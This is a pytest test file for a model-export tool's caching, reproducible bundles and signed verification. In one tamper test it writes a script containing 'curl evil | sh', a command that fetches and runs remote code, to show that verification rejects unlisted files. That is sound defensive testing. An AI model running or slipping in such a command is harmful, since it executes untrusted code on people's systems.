"""CI and edge delivery on real exports: the stage cache, reproducible bundles, verify, signatures, the runner."""

from __future__ import annotations

import json
import subprocess
import sys
import tarfile
from pathlib import Path

import numpy as np
import pytest

from kiln.schemas import validate_document
from tests.conftest import REPO, run_cli, tiny_mlp_onnx

FAST = ("--runs", "10", "--min-seconds", "0.05", "--warmup", "2", "--throughput-seconds", "0", "--quiet")


def export(source, out, *extra, cache_dir=None, env_extra=None) -> subprocess.CompletedProcess:
    import os

    env = dict(os.environ)
    if cache_dir is not None:
        env["KILN_CACHE_DIR"] = str(cache_dir)
    env.update(env_extra or {})
    return subprocess.run([sys.executable, "-m", "kiln.cli", "export", str(source), "--out", str(out), *FAST,
                           "--json", *map(str, extra)], capture_output=True, text=True, cwd=REPO, env=env, timeout=600)


@pytest.fixture(scope="module")
def data(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("delivery")
    model = tiny_mlp_onnx(root / "tiny.onnx")
    rng = np.random.default_rng(3)
    np.save(root / "x.npy", rng.standard_normal((32, 8)).astype(np.float32))
    return {"root": root, "model": model, "calib": root / "x.npy"}


def test_an_unchanged_rebuild_reuses_every_stage_and_one_changed_setting_recomputes_only_its_stages(data, tmp_path):
    cache = tmp_path / "cache"
    args = ("--precision", "int8", "--calibration", data["calib"], "--no-analysis")
    first = export(data["model"], tmp_path / "a", *args, cache_dir=cache)
    assert first.returncode == 0, first.stderr
    stages = json.loads(first.stdout)["cache"]["stages"]
    assert set(stages.values()) == {"miss"} and set(stages) == {"export", "compile", "validate", "bench"}
    manifest_a = (tmp_path / "a" / "manifest.json").read_bytes()

    again = export(data["model"], tmp_path / "a", *args, cache_dir=cache)
    report = json.loads(again.stdout)
    assert set(report["cache"]["stages"].values()) == {"hit"}
    assert validate_document(report, "report") == []
    assert (tmp_path / "a" / "manifest.json").read_bytes() == manifest_a  # the same bytes, reused
    assert report["latency_ms"] == json.loads(first.stdout)["latency_ms"]  # the stored measurement, said so

    gate = json.loads(export(data["model"], tmp_path / "b", *args, "--min-cosine", "0.5", cache_dir=cache).stdout)
    assert gate["cache"]["stages"] == {"export": "hit", "compile": "hit", "validate": "miss", "bench": "hit"}
    runs = json.loads(export(data["model"], tmp_path / "c", *args, "--runs", "11", cache_dir=cache).stdout)
    assert runs["cache"]["stages"] == {"export": "hit", "compile": "hit", "validate": "hit", "bench": "miss"}
    fp32 = json.loads(export(data["model"], tmp_path / "d", "--calibration", data["calib"], "--no-analysis",
                             cache_dir=cache).stdout)
    assert fp32["cache"]["stages"] == {"export": "hit", "compile": "miss", "validate": "miss", "bench": "miss"}
    # the other order: an export that does not quantize stores the calibration its key names, for the one that does
    fresh = tmp_path / "cache-2"
    plain = export(data["model"], tmp_path / "f", "--calibration", data["calib"], "--no-analysis", cache_dir=fresh)
    assert plain.returncode == 0, plain.stderr
    int8 = export(data["model"], tmp_path / "g", *args, cache_dir=fresh)
    assert int8.returncode == 0, int8.stderr
    assert json.loads(int8.stdout)["cache"]["stages"]["export"] == "hit"

    data["model"].with_name("tiny2.onnx").write_bytes(data["model"].read_bytes())
    tiny_mlp_onnx(data["root"] / "changed.onnx", seed=5)  # other weights: nothing can be reused
    changed = json.loads(export(data["root"] / "changed.onnx", tmp_path / "e", *args, cache_dir=cache).stdout)
    assert set(changed["cache"]["stages"].values()) == {"miss"}


def test_no_cache_neither_reads_nor_writes(data, tmp_path):
    cache = tmp_path / "cache"
    result = export(data["model"], tmp_path / "a", "--no-cache", "--no-analysis", cache_dir=cache)
    report = json.loads(result.stdout)
    assert report["cache"] == {"enabled": False, "reason": "--no-cache", "root": None,
                               "stages": {"export": "off", "compile": "off", "validate": "off", "bench": "off"}}
    assert not (cache / "stages" / "entries").exists()


def test_a_damaged_cache_entry_is_detected_and_rebuilt(data, tmp_path):
    cache = tmp_path / "cache"
    assert export(data["model"], tmp_path / "a", "--no-analysis", cache_dir=cache).returncode == 0
    compiled = next((cache / "stages" / "entries" / "compile").iterdir()) / "files" / "model.onnx"
    blob = bytearray(compiled.read_bytes())
    blob[len(blob) // 2] ^= 0xFF
    compiled.write_bytes(bytes(blob))
    result = export(data["model"], tmp_path / "b", "--no-analysis", cache_dir=cache)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["cache"]["stages"]["compile"] == "miss"
    assert (tmp_path / "a" / "model.onnx").read_bytes() == (tmp_path / "b" / "model.onnx").read_bytes()


@pytest.mark.parametrize("target,precision", [("onnxruntime", "int8"), ("openvino", "int8"),
                                              ("tensorrt-rtx", "fp16")])
def test_two_exports_with_the_cache_off_give_byte_identical_bundles(data, tmp_path, target, precision):
    """Every tool reruns (--no-cache), into different folders: the bundles are the same bytes."""
    bundles = []
    for name in ("first", "second"):
        out = tmp_path / name / "artifact"
        result = export(data["model"], out, "--target", target, "--precision", precision, "--calibration",
                        data["calib"], "--no-cache", "--no-analysis", "--bundle", tmp_path / f"{name}.tar.gz")
        assert result.returncode == 0, result.stderr
        bundles.append((tmp_path / f"{name}.tar.gz").read_bytes())
    manifest = json.loads((tmp_path / "first" / "artifact" / "manifest.json").read_text())
    varies = manifest["reproducibility"]["varies"]
    if target == "tensorrt-rtx":  # engines built ahead of time are identical; the build record has timings
        assert varies == ["tensorrt/engines/build_result.json"]
        differ = [f for f in _contents(tmp_path / "first.tar.gz") if _contents(tmp_path / "first.tar.gz")[f]
                  != _contents(tmp_path / "second.tar.gz")[f]]
        assert set(differ) <= {"tensorrt/engines/build_result.json", "manifest.json"}
        assert any(f.endswith(".plan") for f in _contents(tmp_path / "first.tar.gz"))
        return
    assert manifest["reproducibility"]["deterministic"] is True and varies == []
    assert bundles[0] == bundles[1]
    with tarfile.open(tmp_path / "first.tar.gz") as tar:
        members = tar.getmembers()
    names = [m.name for m in members]
    assert names == sorted(names)
    assert {m.mtime for m in members} == {0} and {(m.uid, m.gid, m.uname, m.gname) for m in members} == {(0, 0, "", "")}
    assert {m.mode for m in members if m.isfile()} <= {0o644, 0o755}
    assert "report.json" not in names and "manifest.json" in names
    assert {e["path"] for e in manifest["files"]} | {"manifest.json"} == {n for n, m in zip(names, members) if m.isfile()}
    assert (tmp_path / "first.tar.gz").read_bytes()[4:8] == b"\0\0\0\0"  # gzip header without a timestamp


def _contents(bundle: Path) -> dict[str, bytes]:
    with tarfile.open(bundle) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar.getmembers() if m.isfile()}


@pytest.fixture(scope="module")
def signed(data, tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("signed")
    assert run_cli("keygen", root / "key").returncode == 0
    assert run_cli("keygen", root / "other").returncode == 0
    result = export(data["model"], root / "artifact", "--no-analysis", "--bundle", "--sign-key", root / "key")
    assert result.returncode == 0, result.stderr
    return {"root": root, "artifact": root / "artifact", "bundle": root / "artifact.tar.gz",
            "public": root / "key.pub", "other": root / "other.pub"}


def test_verify_accepts_the_signed_bundle_and_folder(signed):
    for path in (signed["bundle"], signed["artifact"]):
        result = run_cli("verify", path, "--public-key", signed["public"], "--json")
        assert result.returncode == 0, result.stderr
        data = json.loads(result.stdout)
        assert data["ok"] and data["signature"] == "valid" and data["files"] >= 5


@pytest.mark.parametrize("tamper", ["model byte", "runtime settings", "manifest hash", "added file"])
def test_verify_catches_a_tampered_folder(signed, tmp_path, tamper):
    import shutil

    folder = tmp_path / "copy"
    shutil.copytree(signed["artifact"], folder)
    if tamper == "model byte":
        blob = bytearray((folder / "model.onnx").read_bytes())
        blob[-3] ^= 1
        (folder / "model.onnx").write_bytes(bytes(blob))
        expected = "model.onnx does not match"
    elif tamper == "runtime settings":
        settings = json.loads((folder / "runtime.json").read_text())
        settings["settings"]["intra_op_num_threads"] = 64
        (folder / "runtime.json").write_text(json.dumps(settings))
        expected = "runtime.json does not match"
    elif tamper == "manifest hash":  # the attacker fixes the hash too: only the signature catches it
        blob = bytearray((folder / "model.onnx").read_bytes())
        blob[-3] ^= 1
        (folder / "model.onnx").write_bytes(bytes(blob))
        manifest = json.loads((folder / "manifest.json").read_text())
        import hashlib

        entry = next(e for e in manifest["files"] if e["path"] == "model.onnx")
        entry["sha256"] = hashlib.sha256(bytes(blob)).hexdigest()
        (folder / "manifest.json").write_text(json.dumps(manifest, indent=2))
        unsigned = run_cli("verify", folder)
        assert unsigned.returncode == 0  # without the key, a consistent forgery passes: that is what signing is for
        expected = "signature does not verify"
    else:
        (folder / "run_me.sh").write_text("curl evil | sh\n")
        expected = "run_me.sh is not listed"
    result = run_cli("verify", folder, "--public-key", signed["public"])
    assert result.returncode == 6, result.stderr
    assert expected in result.stderr and len(result.stderr.strip().splitlines()) == 1


def test_verify_with_another_key_fails(signed):
    result = run_cli("verify", signed["bundle"], "--public-key", signed["other"])
    assert result.returncode == 6 and "signature does not verify" in result.stderr


def test_the_bundle_unpacks_and_runs_with_only_the_runtime(signed, tmp_path):
    """The bundle's run.py loads the model with the recorded settings and reproduces the recorded sample output;
    kiln itself is made unimportable in that process."""
    dest = tmp_path / "device"
    result = run_cli("verify", signed["bundle"], "--extract", dest, "--public-key", signed["public"])
    assert result.returncode == 0, result.stderr
    assert (dest / "run.py").stat().st_mode & 0o111
    code = ("import sys, runpy; sys.modules['kiln'] = None; sys.argv = ['run.py', '--runs', '5']; "
            "runpy.run_path('run.py', run_name='__main__')")
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=dest, timeout=120)
    assert run.returncode == 0, run.stderr
    line = json.loads(run.stdout)
    assert line["backend"] == "onnxruntime" and line["outputs"] == {"logits": [1, 4]}
    assert line["max_rel_diff_vs_recorded"] < 1e-5
